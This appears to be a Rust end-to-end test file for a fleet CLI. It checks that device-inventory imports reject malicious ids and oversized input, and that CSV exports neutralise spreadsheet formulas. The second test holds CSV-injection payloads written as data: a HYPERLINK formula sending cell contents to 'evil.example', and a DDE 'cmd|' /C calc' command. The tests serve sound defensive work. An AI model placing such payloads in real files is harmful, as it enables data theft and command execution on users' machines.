//! Issue 16, item 5: inventory files cannot smuggle anything in or out. Each attack is made
//! through the real binary (`convoy fleet import` / `convoy fleet export`) on real files.

use convoy_e2e::{convoy, convoy_ok};
use std::fmt::Write as _;
use std::path::Path;

const HEADER: &str = "id,model,hw_rev,firmware,region,depot,lat,lon,connectivity,customer_tier,device_class,last_seen";

fn row(id: &str) -> String {
    format!("{id},T300,B,2.4.1,eu-central,eu-central-muc,48.1,11.5,wifi,basic,truck,0")
}

fn s(p: &Path) -> &str {
    p.to_str().expect("utf-8 path")
}

#[test]
fn ids_that_break_the_topic_rule_are_refused_with_line_and_reason_issue_16() {
    let _turn = convoy_e2e::shared();
    let dir = tempfile::tempdir().expect("tempdir");
    let csv = dir.path().join("evil.csv");
    let long = "E".repeat(5_000);
    // The ids of the attack: topic separators and wildcards, an oversized id, and an embedded
    // newline and NUL (quoted, so the CSV itself stays well-formed).
    let attacks = [
        "EV/evil/x",
        "#",
        "EV+",
        long.as_str(),
        "\"EV\nX\"",
        "\"EV\u{0}X\"",
    ];
    let mut text = format!("{HEADER}\n{}\n", row("GOOD-1"));
    for id in attacks {
        text.push_str(&row(id));
        text.push('\n');
    }
    std::fs::write(&csv, text).expect("write");
    let db = dir.path().join("fleet.db");
    let run = convoy(&["fleet", "import", s(&csv), "--db", s(&db)]);
    assert!(run.status.success(), "good rows are still imported");
    let out = String::from_utf8_lossy(&run.stdout);
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(
        out.contains("1 new, 0 updated, 6 rows rejected"),
        "{out}\n{err}"
    );
    for (line, what) in [
        (3, "id \"EV/evil/x\" is not a valid device id"),
        (4, "id \"#\" is not a valid device id"),
        (5, "id \"EV+\" is not a valid device id"),
        (6, "id: 5000 bytes; a field may hold at most 1024"),
        (7, "id: control character U+000A"),
        (9, "id: control character U+0000"),
    ] {
        assert!(
            err.contains(&format!("evil.csv: line {line}: ")) && err.contains(what),
            "line {line} should be refused with {what:?}:\n{err}"
        );
    }
    let export = convoy_ok(&["fleet", "export", "--format", "csv", "--db", s(&db)]);
    assert_eq!(
        export.lines().count(),
        2,
        "only the good device is in the cache"
    );
}

#[test]
fn exports_are_safe_in_a_spreadsheet_and_import_back_unchanged_issue_16() {
    let _turn = convoy_e2e::shared();
    let dir = tempfile::tempdir().expect("tempdir");
    let csv = dir.path().join("tags.csv");
    // A CSV cell is marked by the exporter; an inventory written by hand may carry the payloads
    // as they are (the importer reads them as text).
    let payloads = [
        "=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")",
        "+1+1",
        "@SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
    ];
    let mut text = format!("{HEADER},note,owner,team,cmd\n{}", row("EV-1"));
    for p in payloads {
        write!(text, ",\"{p}\"").expect("write to a String");
    }
    text.push('\n');
    std::fs::write(&csv, text).expect("write");
    let db = dir.path().join("fleet.db");
    convoy_ok(&["fleet", "import", s(&csv), "--db", s(&db)]);
    let exported = dir.path().join("export.csv");
    convoy_ok(&[
        "fleet",
        "export",
        "--format",
        "csv",
        "--db",
        s(&db),
        "--out",
        s(&exported),
    ]);
    let body = std::fs::read_to_string(&exported).expect("read export");
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let mut cells = 0;
    for record in reader.records() {
        for cell in &record.expect("record") {
            cells += 1;
            let formula = cell.starts_with(['=', '+', '@'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            assert!(!formula, "a spreadsheet would evaluate {cell:?}");
        }
    }
    assert!(cells > 20);
    assert!(body.contains("'=HYPERLINK("), "{body}");
    assert!(body.contains("'@SUM(A1:A9)"), "{body}");
    // Export, import, export: the same bytes, and the tags back as they were.
    let copy = dir.path().join("copy.db");
    convoy_ok(&["fleet", "import", s(&exported), "--db", s(&copy)]);
    let again = convoy_ok(&["fleet", "export", "--format", "csv", "--db", s(&copy)]);
    assert_eq!(again, body);
    let json = convoy_ok(&["fleet", "export", "--format", "json", "--db", s(&copy)]);
    assert!(
        json.contains(r#""note":"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")""#),
        "{json}"
    );
    assert!(json.contains(r#""cmd":"-2+3+cmd|' /C calc'!A0""#), "{json}");
}

#[test]
fn a_million_columns_huge_fields_and_too_many_tags_are_refused_issue_16() {
    let _turn = convoy_e2e::shared();
    let dir = tempfile::tempdir().expect("tempdir");
    let db = dir.path().join("fleet.db");
    convoy_ok(&[
        "fleet",
        "import",
        &write(dir.path(), "ok.csv", &format!("{HEADER}\n{}\n", row("A1"))),
        "--db",
        s(&db),
    ]);
    let before = convoy_ok(&["fleet", "export", "--format", "csv", "--db", s(&db)]);

    // 1,000,000 columns: the whole file is refused, and nothing reaches the cache.
    let mut wide = String::from(HEADER);
    for i in 0..1_000_000 {
        write!(wide, ",c{i}").expect("write to a String");
    }
    let mut wide_row = row("A2");
    wide_row.push_str(&",x".repeat(1_000_000));
    let path = write(dir.path(), "wide.csv", &format!("{wide}\n{wide_row}\n"));
    let run = convoy(&["fleet", "import", &path, "--db", s(&db)]);
    assert!(!run.status.success());
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(err.contains("line 1 is longer than 1048576 bytes"), "{err}");

    // 300 columns, short enough for the line guard: refused by the column limit.
    let mut cols = String::from(HEADER);
    for i in 0..300 {
        write!(cols, ",c{i}").expect("write to a String");
    }
    let path = write(dir.path(), "cols.csv", &format!("{cols}\n"));
    let run = convoy(&["fleet", "import", &path, "--db", s(&db)]);
    assert!(!run.status.success());
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(
        err.contains("the header has 312 columns; an inventory may have at most 256"),
        "{err}"
    );

    // A 10 MB field: refused whole before it is held in memory.
    let path = write(
        dir.path(),
        "field.csv",
        &format!("{HEADER},note\n{},{}\n", row("A3"), "x".repeat(10 << 20)),
    );
    let run = convoy(&["fleet", "import", &path, "--db", s(&db)]);
    assert!(!run.status.success());
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(err.contains("line 2 is longer than 1048576 bytes"), "{err}");

    // A 2 KB field: that row is refused, naming the column; the next row is imported.
    let path = write(
        dir.path(),
        "cell.csv",
        &format!(
            "{HEADER},note\n{},{}\n{},fine\n",
            row("A4"),
            "y".repeat(2_048),
            row("A5")
        ),
    );
    let run = convoy(&["fleet", "import", &path, "--db", s(&db)]);
    assert!(run.status.success());
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(
        err.contains("line 2: note: 2048 bytes; a field may hold at most 1024"),
        "{err}"
    );

    // 65 tags on one device (a JSON inventory, where tags are not columns).
    let generated = dir.path().join("gen.json");
    convoy_ok(&[
        "fleet",
        "generate",
        "--devices",
        "3",
        "--seed",
        "2",
        "--out",
        s(&generated),
    ]);
    let mut doc: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&generated).expect("read")).expect("json");
    let tags: serde_json::Map<String, serde_json::Value> = (0..65)
        .map(|i| (format!("k{i}"), serde_json::json!("v")))
        .collect();
    doc["devices"][0]["tags"] = serde_json::Value::Object(tags);
    let path = write(dir.path(), "tags.json", &doc.to_string());
    let copy = dir.path().join("tags.db");
    let run = convoy(&["fleet", "import", &path, "--db", s(&copy)]);
    let out = String::from_utf8_lossy(&run.stdout);
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(
        err.contains("65 tags; a device may carry at most 64"),
        "{err}"
    );
    assert!(out.contains("2 new, 0 updated, 1 rows rejected"), "{out}");

    // The cache holds only the good rows, and its export has the columns it had plus `note`.
    let after = convoy_ok(&["fleet", "export", "--format", "csv", "--db", s(&db)]);
    assert_eq!(after.lines().count(), 3, "{after}");
    let header = after.lines().next().expect("header");
    assert_eq!(
        header.split(',').count(),
        before.lines().next().expect("header").split(',').count() + 1
    );
    assert!(!after.contains("c999999"));
}

fn write(dir: &Path, name: &str, text: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, text).expect("write");
    path.to_str().expect("utf-8").to_owned()
}
